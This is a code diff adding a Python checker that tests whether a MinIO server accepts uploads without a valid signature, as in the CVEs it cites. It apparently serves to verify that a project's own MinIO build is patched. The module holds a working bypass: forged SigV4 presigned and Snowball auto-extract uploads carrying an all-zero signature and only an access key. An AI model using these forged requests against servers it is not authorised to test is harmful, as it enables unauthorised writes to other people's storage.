@@ -1,0 +1,94 @@
+"""Ask a MinIO whether it accepts writes that are not signed with a secret key.
+
+For one kind of upload, public MinIO servers up to 2026-02 look up the access key and never compare
+the signature (CVE-2026-40344, CVE-2026-41145).  The MinIO that Rowdrop builds refuses such uploads:
+see minio-source/README.md.
+"""
+
+import base64
+import io
+import os
+import secrets
+import tarfile
+import zlib
+from datetime import UTC, datetime
+from urllib.parse import quote, urlencode
+
+import certifi
+import urllib3
+
+_UNSIGNED_TRAILER = "STREAMING-UNSIGNED-PAYLOAD-TRAILER"
+_NO_SIGNATURE = "0" * 64
+_SIGNED_HEADERS = "host;x-amz-content-sha256;x-amz-date"
+_TIMEOUT = urllib3.Timeout(connect=5, read=15)
+
+
+def forged_keys(endpoint: str, access_key: str, bucket: str, region: str, prefix: str) -> list[str]:
+    """Return the keys of the objects that the server wrote without a valid signature; empty if it refuses.
+
+    Sends two uploads of a small object, each with a new random key that begins with `prefix`.  No secret key is needed
+    or sent.  The caller deletes the objects.  Raises `urllib3.exceptions.HTTPError` if the server cannot be reached.
+    """
+    now = datetime.now(UTC)
+    credential = f"{access_key}/{now:%Y%m%d}/{region or 'us-east-1'}/s3/aws4_request"
+    headers = {"x-amz-content-sha256": _UNSIGNED_TRAILER, "x-amz-date": f"{now:%Y%m%dT%H%M%SZ}"}
+    query_key = prefix + secrets.token_hex(6)
+    snowball_key = prefix + secrets.token_hex(6)
+    ca_certs = os.environ.get("SSL_CERT_FILE") or certifi.where()  # as the minio package does
+    with urllib3.PoolManager(timeout=_TIMEOUT, retries=False, ca_certs=ca_certs) as http:
+
+        def is_accepted(key: str, query: str, body: bytes, more_headers: dict[str, str]) -> bool:
+            url = f"{endpoint.rstrip('/')}/{bucket}/{quote(key)}{query}"
+            answer = http.request("PUT", url, body=body, headers=headers | more_headers)
+            return 200 <= answer.status < 300
+
+        accepted = []
+        if is_accepted(query_key, _query_credential(credential, now), *_chunked(b"forged")):
+            accepted.append(query_key)
+        if is_accepted(snowball_key, "", _tar_of(snowball_key, b"forged", now), _snowball_headers(credential)):
+            accepted.append(snowball_key)
+        return accepted
+
+
+def _query_credential(credential: str, now: datetime) -> str:
+    parameters = {
+        "X-Amz-Algorithm": "AWS4-HMAC-SHA256",
+        "X-Amz-Credential": credential,
+        "X-Amz-Date": f"{now:%Y%m%dT%H%M%SZ}",
+        "X-Amz-Expires": "600",
+        "X-Amz-SignedHeaders": "host",
+        "X-Amz-Signature": _NO_SIGNATURE,
+    }
+    return "?" + urlencode(parameters)
+
+
+def _chunked(content: bytes) -> tuple[bytes, dict[str, str]]:
+    """Return the body of an upload with a checksum in its trailer, and the headers that announce it."""
+    checksum = base64.b64encode(zlib.crc32(content).to_bytes(4, "big")).decode()
+    trailer = f"x-amz-checksum-crc32:{checksum}\r\n\r\n".encode()
+    body = f"{len(content):x}\r\n".encode() + content + b"\r\n0\r\n" + trailer
+    headers = {
+        "content-encoding": "aws-chunked",
+        "x-amz-decoded-content-length": str(len(content)),
+        "x-amz-trailer": "x-amz-checksum-crc32",
+    }
+    return body, headers
+
+
+def _tar_of(key: str, content: bytes, now: datetime) -> bytes:
+    packed = io.BytesIO()
+    with tarfile.open(fileobj=packed, mode="w") as tar:
+        member = tarfile.TarInfo(key)
+        member.size = len(content)
+        member.mtime = int(now.timestamp())
+        tar.addfile(member, io.BytesIO(content))
+    return packed.getvalue()
+
+
+def _snowball_headers(credential: str) -> dict[str, str]:
+    """Return the headers that make MinIO unpack the body, with a signature that is made up."""
+    parts = (f"Credential={credential}", f"SignedHeaders={_SIGNED_HEADERS}", f"Signature={_NO_SIGNATURE}")
+    return {
+        "Authorization": f"AWS4-HMAC-SHA256 {', '.join(parts)}",
+        "X-Amz-Meta-Snowball-Auto-Extract": "true",
+    }
